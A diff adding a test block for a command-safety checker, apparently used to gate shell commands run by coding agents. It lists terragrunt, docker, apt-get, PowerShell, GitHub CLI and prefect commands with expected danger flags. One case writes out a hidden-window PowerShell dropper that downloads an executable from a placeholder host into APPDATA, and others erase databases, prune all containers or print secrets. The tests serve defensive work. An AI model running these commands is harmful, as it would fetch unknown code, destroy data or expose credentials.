@@ -2155,3 +2155,67 @@ describe("checkCommand on coding agents with their confirmations off, credential
     if (reason) expect(r.reasons.join('; ')).toContain(reason);
   });
 });
+
+describe("checkCommand on terragrunt's listing commands and its run queue, GitHub's API paths, container pruning and a container's packages, hidden PowerShell, printed secrets, completion installers, access tokens and a service's objects deleted", () => {
+  const cases: [string, boolean, string?][] = [
+    // terragrunt lists and generates in the workspace; the terraform command after `--` is the one judged
+    ["terragrunt find --filter 'app*'", false],
+    ['terragrunt list --format=dot --dependencies --external | dot -Tsvg > graph.svg', false],
+    ['terragrunt stack generate', false],
+    ['terragrunt run --all --out-dir /tmp/tfplan -- plan', false],
+    ["terragrunt run --all --filter '!./subtree/**' -- apply", true, 'changes infrastructure outside the sandbox'],
+    ['terragrunt stack run apply', true, 'changes infrastructure outside the sandbox'],
+    ['terragrunt init -migrate-state', true, 'init -migrate-state'],
+    ['terraform init -upgrade', false],
+    // helm's and krew's local caches and plugins
+    ['helm repo update', false],
+    ['kubectl krew install evict-pod', false],
+    ['kubectl krew index add other https://example.com/index.git', true, 'changes infrastructure outside the sandbox'],
+    // gh api's endpoint is GitHub's path, not this machine's; a release verified or downloaded stays here
+    [`OWNER="$(gh api '/user' --jq '.login')"`, false],
+    ['gh api /repos/o/r/pulls -X POST', true, 'changes something on GitHub through its API'],
+    ['gh release verify v1.1.0 --repo gruntwork-io/terragrunt', false],
+    ['gh release create v1.1.0', true, 'reaches past this machine'],
+    // pruning removes every stopped container and, with --all, every unused image on the machine
+    ['docker system prune -af', true, 'removes every stopped container on the machine'],
+    ['sudo docker image prune --all --force', true, 'removes every image no container runs'],
+    ['docker image prune -f', false],
+    ['docker builder prune -af', false],
+    // a package manager run in a container changes that container
+    ['docker exec test-container apt-get update', false],
+    ['docker run --rm ubuntu apt-get install -y curl', false],
+    ['docker run --rm -v /:/host ubuntu apt-get update', true, 'mounts / (the root directory) into a container'],
+    ['apt-get update', true, "changes the machine's installed packages"],
+    // PowerShell hidden from whoever is at the machine, or given code without -Command
+    [
+      "powershell -window hidden -executionpolicy bypass (New-object system.net.webclient).DownloadFile('http://x/a',$env:APPDATA+'\\Main.exe')",
+      true,
+      'window hidden',
+    ],
+    ['powershell Get-ChildItem', true, 'runs inline powershell code'],
+    ['pwsh -WindowStyle Normal ./build.ps1', false],
+    ['powershell -ExecutionPolicy Bypass -File ./build.ps1', false],
+    // secrets printed, completion scripts added to the shell's start-up, tokens made for the account
+    ['prefect config view --show-secrets', true, 'prints a secret or a credential in plain text'],
+    ['prefect config view', false],
+    ['terragrunt --install-autocomplete', true, "adds to the user's shell start-up file"],
+    ['mycli --install-completion', true, "adds to the user's shell start-up file"],
+    ['mycli --show-completion', false],
+    ['uv run modal token new', true, "makes or stores an access token for the user's account"],
+    ['modal token info', false],
+    // a service's objects deleted, cloud resources provisioned, its database erased, a deployment run
+    ["prefect work-pool delete 'test-pool'", true, "deletes prefect's work-pool"],
+    ["prefect work-pool inspect 'test-pool'", false],
+    ['prefect work-pool create --type ecs:push --provision-infra my-ecs-pool', true, 'provisions cloud infrastructure'],
+    ['prefect work-pool create --type process my-pool', false],
+    ['prefect server database reset -y', true, "erases prefect's database without asking"],
+    ['prefect server database upgrade -y', false],
+    ["prefect deployment run 'my-flow/example'", true, 'reaches past this machine'],
+    ['prefect deployment ls', false],
+  ];
+  it.each(cases)('%s → dangerous %s', (cmd, dangerous, reason) => {
+    const r = checkCommand(cmd, WS);
+    expect(r.dangerous, r.reasons.join('; ')).toBe(dangerous);
+    if (reason) expect(r.reasons.join('; ')).toContain(reason);
+  });
+});
